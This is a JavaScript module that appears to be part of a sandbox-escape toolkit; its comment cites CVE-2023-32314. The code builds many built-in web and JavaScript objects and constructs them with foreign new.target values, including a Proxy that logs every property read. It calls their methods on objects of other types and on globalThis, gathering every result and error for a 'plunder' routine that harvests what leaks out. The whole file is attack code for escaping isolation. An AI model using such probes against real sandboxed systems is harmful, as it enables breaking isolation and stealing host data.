// Methods of one class on objects of another, and objects made with somebody else's `new.target`: whoever trusts
// what an object looks like hands over what is inside another (CVE-2023-32314 and its kin).
const { collector, plunder } = require('./plunder.js');

async function execute(params) {
  const bag = collector();
  const makers = { Headers: () => new Headers(), Response: () => new Response('x'), Request: () => new Request('http://a/'), URL: () => new URL('http://a/'), URLSearchParams: () => new URLSearchParams('a=1'), Blob: () => new Blob(['x']), FormData: () => new FormData(), AbortController: () => new AbortController(), EventTarget: () => new EventTarget(), Event: () => new Event('x'), TextDecoder: () => new TextDecoder(), ReadableStream: () => new ReadableStream(), WritableStream: () => new WritableStream(), TransformStream: () => new TransformStream(), MessageChannel: () => new MessageChannel(), DOMException: () => new DOMException('x'), Map: () => new Map(), Date: () => new Date(0), Promise: () => Promise.resolve(1), Uint8Array: () => new Uint8Array(2) };
  const objects = [];
  for (const make of Object.values(makers)) { try { objects.push(make()); } catch { /* not here */ } }
  const foreign = function () {};
  foreign.prototype = new Proxy({}, { get: (_, key) => { bag.take(key); return undefined; } });
  for (const name of Object.keys(makers)) {
    for (const target of [foreign, class extends Array {}, Proxy, echo]) {
      try { bag.take(Reflect.construct(globalThis[name], ['http://a/'], target)); } catch (error) { bag.take(error); }
    }
  }
  let tries = 0;
  for (const one of objects) {
    const prototype = Object.getPrototypeOf(one);
    for (const key of Reflect.ownKeys(prototype)) {
      const { value, get } = Object.getOwnPropertyDescriptor(prototype, key);
      for (const other of [...objects, { __proto__: one }, new Proxy(one, {}), null, undefined, globalThis]) {
        const method = get ?? value;
        if (typeof method !== 'function' || key === 'constructor') continue;
        tries++;
        try {
          const answer = Reflect.apply(method, other, []);
          if (answer instanceof Promise) answer.then(() => 0, () => 0);
          bag.take(answer);
        } catch (error) {
          bag.take(error);
        }
      }
    }
  }
  return { ...plunder(bag.values(), params), count: tries };
}
